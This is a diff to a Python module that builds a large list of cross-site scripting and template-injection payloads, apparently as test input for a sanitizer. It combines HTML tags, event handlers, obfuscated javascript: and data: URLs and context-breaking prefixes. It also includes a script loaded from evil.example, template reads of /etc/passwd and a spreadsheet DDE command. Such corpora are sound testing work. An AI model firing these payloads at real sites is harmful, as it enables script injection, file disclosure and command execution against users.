@@ -1,6 +1,9 @@
-"""What runs in a browser that believes it; a few of each family."""
+"""What runs in a browser that believes it, or in a template engine: some hundred of each family."""
 
-PAYLOADS = [
+from itertools import product
+
+# Written one by one.
+ODD = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
     "<script>alert(1)",
@@ -57,3 +60,85 @@ PAYLOADS = [
     "'-alert(1)-'",
     "{{constructor.constructor('alert(1)')()}}",
 ]
+
+TAGS = [
+    "a", "audio src=x", "b", "body", "button", "details open", "div", "form", "iframe src=x",
+    "img src=x", "input autofocus", "marquee", "math", "object data=x", "p", "section", "select",
+    "svg", "table", "video src=x",
+]  # fmt: skip
+EVENTS = [
+    "onanimationend", "onbegin",
+    "onauxclick", "onclick", "onerror", "onfocus", "onload", "onmouseover",
+    "onpointerdown", "onscroll", "ontoggle",
+]  # fmt: skip
+ADDRESSES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "java&#10;script:alert(1)",
+    "&#x6a;avascript:alert(1)",
+    "javascript&colon;alert(1)",
+    "javascript://example.org/%0aalert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+]
+PLACES = [
+    "<a href={}>x</a>",
+    "<area href={}>",
+    "<base href={}>",
+    "<button formaction={}>x</button>",
+    "<embed src={}>",
+    "<form action={}><button>x</button></form>",
+    "<frame src={}>",
+    "<iframe src={}></iframe>",
+    "<img src={}>",
+    "<link rel=stylesheet href={}>",
+    "<math><mi xlink:href={}>x</mi></math>",
+    "<object data={}></object>",
+    "<svg><a xlink:href={}><text>x</text></a></svg>",
+    "<table background={}><tr><td>x</td></tr></table>",
+]
+ENDS = [
+    "", "'>", '">', "-->", "]]>", "</noscript>", "</script>", "</style>", "</template>",
+    "</textarea>", "</title>", "</math>", "</select>",
+]  # fmt: skip
+CORES = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+]
+ENGINES = [
+    "{{ 7|add:7 }}",
+    "{% load static %}",
+    "{% include '/etc/passwd' %}",
+    "{# 甲 #}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    '#read("/etc/passwd")',
+    '#import "/etc/passwd"',
+    '#eval("7*7")',
+    "$ 7 * 7 $",
+    "%(name)s",
+    "{0.__class__}",
+    "{name!r}",
+    "`alert(1)`",
+    "＜script＞alert(1)＜/script＞",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    '=HYPERLINK("https://evil.example")',
+    "=cmd|' /C calc'!A0",
+]
+_ALL = [
+    *ODD,
+    *(f"<{tag} {event}=alert(1)>x" for tag, event in product(TAGS, EVENTS)),
+    *(place.format(f"'{address}'") for place, address in product(PLACES, ADDRESSES)),
+    *(f"{end}{core}" for end, core in product(ENDS, CORES)),
+    *ENGINES,
+]
+PAYLOADS = list(dict.fromkeys(_ALL))
